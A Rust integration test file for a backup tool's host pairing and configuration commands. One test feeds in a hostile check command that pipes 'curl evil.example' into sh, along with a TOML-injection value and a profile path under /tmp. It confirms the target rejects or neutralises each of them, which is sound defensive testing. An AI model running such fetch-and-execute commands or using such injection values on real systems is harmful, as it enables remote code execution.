//! From nothing to a first verified backup, with the commands that the guide has: init, invite, init --join, accept.

use std::{
    fs,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
};

use assay_common::{cli::join::Acceptance, signing::SigningKey};

use crate::pair::{Done, done, eventually, free_port, program};

/// Two hosts that have nothing but the programs, and a git repository on one of them.
struct Hosts {
    folder: tempfile::TempDir,
    agents: Vec<Child>,
}

impl Drop for Hosts {
    fn drop(&mut self) {
        for agent in &mut self.agents {
            agent.kill().ok();
            agent.wait().ok();
        }
    }
}

impl Hosts {
    fn new() -> Self {
        let folder = tempfile::Builder::new().prefix("assay-init-").tempdir().expect("temp");
        let hosts = Self { folder, agents: Vec::new() };
        let live = hosts.path("live.git");
        let git = |arguments: &[&str]| {
            let status = Command::new("git").args(arguments).stdout(Stdio::null()).status();
            assert!(status.expect("git is installed by ./test").success(), "{arguments:?}");
        };
        git(&["init", "-q", "--bare", live.to_str().expect("utf-8")]);
        hosts
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn run(&self, role: &str, arguments: &[&str]) -> Done {
        let config = self.path(role).join(format!("{role}.toml"));
        let mut command = Command::new(program(&format!("assay-{role}")));
        done(command.arg("--config").arg(config).args(arguments).current_dir(self.folder.path()))
    }

    fn good(&self, role: &str, arguments: &[&str]) -> String {
        let done = self.run(role, arguments);
        assert_eq!(done.code, 0, "{arguments:?}: {done:?}");
        done.stdout
    }

    fn serve(&mut self, role: &str) {
        let config = self.path(role).join(format!("{role}.toml"));
        let log = fs::File::create(self.path(&format!("{role}.log"))).expect("log");
        let agent = Command::new(program(&format!("assay-{role}")))
            .arg("--config")
            .arg(config)
            .arg("serve")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn();
        self.agents.push(agent.expect("the agent starts"));
        eventually("the agent serves", || self.run(role, &["health"]).code == 0);
    }
}

/// Is removed with what is in it.
struct Removed(PathBuf);

impl Drop for Removed {
    fn drop(&mut self) {
        fs::remove_dir_all(&self.0).ok();
    }
}

/// The folder of the authority in what `init` and `pki init` print.
fn authority_in(printed: &str) -> PathBuf {
    let line = printed.lines().find_map(|line| line.split_once("and a CA in ")).expect("a line");
    PathBuf::from(line.1)
}

fn mode(path: &Path) -> u32 {
    fs::metadata(path).expect("stat").permissions().mode() & 0o777
}

#[test]
fn from_nothing_to_a_first_verified_backup() {
    let mut hosts = Hosts::new();
    let target_port = free_port();
    let listen = format!("127.0.0.1:{target_port}");
    let store = hosts.path("store");
    let store = store.to_str().expect("utf-8");
    let init = ["init", "--host", "127.0.0.1", "--listen", &listen, "--store", store];
    let made = hosts.good("target", &init);
    let ca = authority_in(&made);
    let _gone = Removed(ca.clone());
    // The authority's key is in root's own place, which the units hide, and nowhere below the configuration.
    assert!(ca.starts_with("/var/lib/assay-ca"), "{made}");
    assert_eq!((mode(&ca), mode(ca.parent().expect("a parent"))), (0o700, 0o700));
    assert_eq!(mode(&ca.join("ca.key")), 0o600);
    assert!(!hosts.path("target/ca").exists());
    // Nothing is overwritten.
    let before = fs::read(hosts.path("target/pki/target.key")).expect("read");
    let again = hosts.run("target", &init);
    assert!(again.code == 2 && again.stderr.contains("is there already"), "{again:?}");
    assert_eq!(fs::read(hosts.path("target/pki/target.key")).expect("read"), before);

    hosts.good("target", &["invite", "db1"]);
    let invitation = hosts.path("assay-invite-db1.json");
    assert_eq!(mode(&invitation), 0o600);
    assert!(fs::read_dir(&ca).expect("list").count() == 2, "keys stay in the invitation only");

    let (file, live) = (invitation.to_str().expect("utf-8").to_owned(), hosts.path("live.git"));
    let (live, state) = (live.to_str().expect("utf-8").to_owned(), hosts.path("state"));
    let answer = hosts.path("answer").to_str().expect("utf-8").to_owned();
    let source_listen = format!("127.0.0.1:{}", free_port());
    let join = [
        "init",
        "--join",
        &file,
        "--state",
        state.to_str().expect("utf-8"),
        "--listen",
        &source_listen,
        "--repository",
        "code",
        "--answer",
        &answer,
        &live,
    ];
    // Others could have read the keys in it: it is not taken.
    fs::set_permissions(&invitation, fs::Permissions::from_mode(0o644)).expect("chmod");
    let exposed = hosts.run("source", &join);
    assert!(exposed.code == 2 && exposed.stderr.contains("HINT:"), "{exposed:?}");
    assert!(!hosts.path("source").join("pki").exists());
    fs::set_permissions(&invitation, fs::Permissions::from_mode(0o600)).expect("chmod");
    let printed = hosts.good("source", &join);
    assert!(printed.contains("found git in"), "{printed}");
    let line = printed.lines().find_map(|line| line.strip_prefix("assay-target accept ")).expect("a line");
    assert_eq!(mode(&hosts.path("source/pki/source-signing.key")), 0o600);
    assert_eq!(hosts.run("source", &join).code, 2);

    let cut = hosts.run("target", &["accept", &line[..line.len() - 9]]);
    assert!(cut.code == 2 && cut.stderr.contains("HINT:"), "{cut:?}");
    hosts.good("target", &["accept", "--file", &answer]);
    // Twice the same name is no configuration, and the one that is there stays.
    let twice = hosts.run("target", &["accept", line]);
    assert!(twice.code == 2 && twice.stderr.contains("is defined twice"), "{twice:?}");
    hosts.serve("target");
    hosts.serve("source");
    let doctor = hosts.run("source", &["doctor"]);
    assert!([0, 3].contains(&doctor.code) && doctor.stdout.contains("0 BAD"), "{doctor:?}");
    let run = hosts.good("source", &["run", "--follow"]);
    assert!(run.starts_with("opening") && run.contains("PASS"), "{run}");
    // Who operates the source does not operate the target.
    let pki = hosts.path("source/pki");
    let file = |name: &str| pki.join(name).to_str().expect("utf-8").to_owned();
    let refused =
        hosts.run("target", &["status", "--cert", &file("operator.crt"), "--key", &file("operator.key")]);
    assert!(refused.code == 4 && refused.stderr.contains("does not operate this agent"), "{refused:?}");
    assert!(hosts.good("target", &["status"]).contains("proven good"));

    // A second repository of the same source.
    let files = hosts.path("files");
    fs::create_dir(&files).expect("mkdir");
    let folder = files.to_str().expect("utf-8");
    let add = ["add", "--profile", "generic", "--repository", "files", "--check", "ls", "-la", ";", folder];
    let printed = hosts.good("source", &add);
    assert!(printed.contains("added repository files (generic in"), "{printed}");
    let line = printed.lines().find_map(|line| line.strip_prefix("assay-target add ")).expect("a line");
    let twice = hosts.run("source", &add);
    assert!(twice.code == 2 && twice.stderr.contains("is defined twice"), "{twice:?}");
    let added = hosts.good("target", &["add", "--allow-commands", line]);
    assert!(added.contains("added repository files of db1"), "{added}");
    for role in ["source", "target"] {
        assert_eq!(hosts.run(role, &["config", "check"]).code, 0);
    }
    // Shares of the disk: the second has half of what the first may not hold.
    let text = fs::read_to_string(hosts.path("target/target.toml")).expect("read");
    let quotas = text.lines().filter(|line| line.starts_with("quota = ")).count();
    assert!(quotas == 3 && text.contains("\nreserve = \""), "of [agent] and of each repository: {text}");
    a_third_in_files_of_its_own(&hosts);
}

/// Where the folder of further files exists, a new repository gets a file of its own there, and goes with it.
fn a_third_in_files_of_its_own(hosts: &Hosts) {
    let more = hosts.path("more");
    fs::create_dir(&more).expect("mkdir");
    let mains = ["source", "target"].map(|role| hosts.path(role).join(format!("{role}.toml")));
    let before = mains.clone().map(|main| fs::read(main).expect("read"));
    let [source, target] = mains.clone().map(|main| main.with_extension("d"));
    for folder in [&source, &target] {
        fs::create_dir(folder).expect("mkdir");
    }
    let folder = more.to_str().expect("utf-8");
    let add = ["add", "--profile", "generic", "--repository", "more", "--check", "ls", ";", folder];
    let printed = hosts.good("source", &add);
    assert!(printed.contains("source.d/more.toml"), "{printed}");
    let line = printed.lines().find_map(|line| line.strip_prefix("assay-target add ")).expect("a line");
    let added = hosts.good("target", &["add", "--allow-commands", line]);
    assert!(added.contains("target.d/more.toml"), "{added}");
    assert_eq!(mains.map(|main| fs::read(main).expect("read")), before, "the main files stay as they are");
    assert!(hosts.good("source", &["acceptance", "more"]).contains(line));
    for (role, folder) in [("source", &source), ("target", &target)] {
        let check = || hosts.run(role, &["config", "check"]);
        let good = check();
        assert!(good.code == 0 && good.stdout.contains("repositories: code, files, more"), "{good:?}");
        let file = folder.join("more.toml");
        let text = fs::read_to_string(&file).expect("read");
        for (wrong, told) in [
            (format!("{text}\n[agent]\nname = 'x'\n"), "unknown field `agent`"),
            (text.replace("\"more\"", "\"code\""), "repository \"code\" is defined twice"),
        ] {
            fs::write(&file, wrong).expect("write");
            let wrong = check();
            assert!(wrong.code == 2 && wrong.stderr.contains(told), "{wrong:?}");
            assert!(wrong.stderr.contains(&format!("{role}.d/more.toml:")), "{wrong:?}");
        }
        fs::remove_file(&file).expect("remove");
        let gone = check();
        assert!(gone.code == 0 && gone.stdout.contains("repositories: code, files\n"), "{gone:?}");
    }
}

/// A list that has no end takes no folder for an argument and protects nothing else instead.
#[test]
fn a_check_without_an_end_protects_nothing_else() {
    let hosts = Hosts::new();
    let (store, listen) = (hosts.path("store"), format!("127.0.0.1:{}", free_port()));
    let ca = hosts.path("ca").to_str().expect("utf-8").to_owned();
    let store = store.to_str().expect("utf-8");
    hosts.good(
        "target",
        &["init", "--host", "127.0.0.1", "--listen", &listen, "--store", store, "--ca-folder", &ca],
    );
    hosts.good("target", &["invite", "db1", "--ca-folder", &ca]);
    let invitation = hosts.path("assay-invite-db1.json");
    let file = invitation.to_str().expect("utf-8");
    let live = hosts.path("live.git");
    let folder = live.to_str().expect("utf-8");
    for (list, said) in [
        (vec!["--check", "prog", "-x", folder], "is missing"),
        (vec!["--profile", "generic", "--check", "prog", folder], "is missing"),
        (vec!["--profile", "generic"], "is missing"),
        (
            vec![folder, "--profile", "generic", "--check", "prog", "--repository", "x"],
            "among the arguments of --check",
        ),
        (vec![folder, "--check", "prog"], "brings its own check"),
    ] {
        let refused = hosts.run("source", &[&["init", "--join", file][..], &list].concat());
        assert!(refused.code == 2 && refused.stderr.contains(said), "{list:?}: {refused:?}");
        assert!(refused.stderr.contains("HINT:") && !hosts.path("source").exists(), "{list:?}: {refused:?}");
    }
    let good = [&["init", "--join", file, "--check", "prog", "-x", ";", "--profile", "generic", folder][..]]
        .concat();
    assert!(hosts.good("source", &good).contains("found generic in"), "the end is explicit");
}

/// Operators who accept at the same time lose nothing of each other's.
#[test]
fn acceptances_at_the_same_time_are_all_kept() {
    let hosts = Hosts::new();
    let store = hosts.path("store");
    let store = store.to_str().expect("utf-8");
    let ca = hosts.path("authority").to_str().expect("utf-8").to_owned();
    let listen = "127.0.0.1:1";
    hosts.good(
        "target",
        &["init", "--host", "127.0.0.1", "--listen", listen, "--store", store, "--ca-folder", &ca],
    );
    let names: Vec<String> = (0..8).map(|number| format!("code{number}")).collect();
    std::thread::scope(|scope| {
        for name in &names {
            let line = Acceptance {
                source: format!("db-{name}"),
                source_key: SigningKey::generate().verifying_key().to_pem(),
                repository: name.clone(),
                profile: "sqlite".to_owned(),
                vars: [("databases".to_owned(), toml::Value::from(vec!["*.db"]))].into_iter().collect(),
            }
            .to_line();
            let hosts = &hosts;
            scope.spawn(move || hosts.good("target", &["accept", &line]));
        }
    });
    let text = fs::read_to_string(hosts.path("target/target.toml")).expect("read");
    for name in names {
        assert!(text.contains(&format!("name = \"{name}\"\n")), "{name} is lost:\n{text}");
    }
}

/// A source that was taken over sends a line of its own: it pins a key and adds a repository, and no more than that.
#[test]
fn an_acceptance_names_no_command_and_no_file_of_the_target() {
    let hosts = Hosts::new();
    let store = hosts.path("store");
    let store = store.to_str().expect("utf-8");
    let ca = hosts.path("authority").to_str().expect("utf-8").to_owned();
    let listen = "127.0.0.1:1";
    hosts.good(
        "target",
        &["init", "--host", "127.0.0.1", "--listen", listen, "--store", store, "--ca-folder", &ca],
    );
    let config = hosts.path("target/target.toml");
    fs::set_permissions(&config, fs::Permissions::from_mode(0o640)).expect("chmod");
    let before = fs::read(&config).expect("read");
    let line = |profile: &str, vars: &[(&str, &[&str])]| {
        let vars = vars.iter().map(|(name, words)| ((*name).to_owned(), toml::Value::from(words.to_vec())));
        let acceptance = Acceptance {
            source: "db1".to_owned(),
            source_key: SigningKey::generate().verifying_key().to_pem(),
            repository: "code".to_owned(),
            profile: profile.to_owned(),
            vars: vars.collect(),
        };
        acceptance.to_line()
    };
    let evil = line("generic", &[("check", &["sh", "-c", "curl evil.example | sh"])]);
    for (line, word) in [
        (&line("/tmp/evil.toml", &[]), "--profile"),
        (&evil, "--allow-commands"),
        (&line("postgresql", &[("programs", &["/tmp/bin"])]), "--allow-commands"),
    ] {
        let refused = hosts.run("target", &["accept", line]);
        assert!(refused.code == 2 && refused.stderr.contains(word), "{refused:?}");
        assert!(!hosts.path("target/pki/db1-signing.pub").exists());
        assert_eq!(fs::read(&config).expect("read"), before);
    }
    // A profile of the target's own does not make the source's words any better.
    let mine = hosts.path("target/mine.toml");
    fs::copy(crate::metrics::repository().join("profiles/generic.toml"), &mine).expect("copy");
    let mine = mine.to_str().expect("utf-8");
    let refused = hosts.run("target", &["accept", "--profile", mine, &evil]);
    assert!(refused.code == 2 && refused.stderr.contains("--allow-commands"), "{refused:?}");
    assert_eq!(fs::read(&config).expect("read"), before);
    // Text that would be TOML stays text.
    let quoted = line("sqlite", &[("databases", &["a\"]\n[agent]\nname = \"b"])]);
    hosts.good("target", &["accept", &quoted]);
    let text = fs::read_to_string(&config).expect("read");
    let table: toml::Table = text.parse().expect("TOML");
    assert_eq!(table["agent"]["name"].as_str(), Some("target"), "{text}");
    assert_eq!(mode(&config), 0o640, "the file's mode stays");
    // Another key under the same name is not taken.
    let other = hosts.run("target", &["accept", &evil, "--allow-commands"]);
    assert!(other.code == 2 && other.stderr.contains("pins another key of db1"), "{other:?}");
}
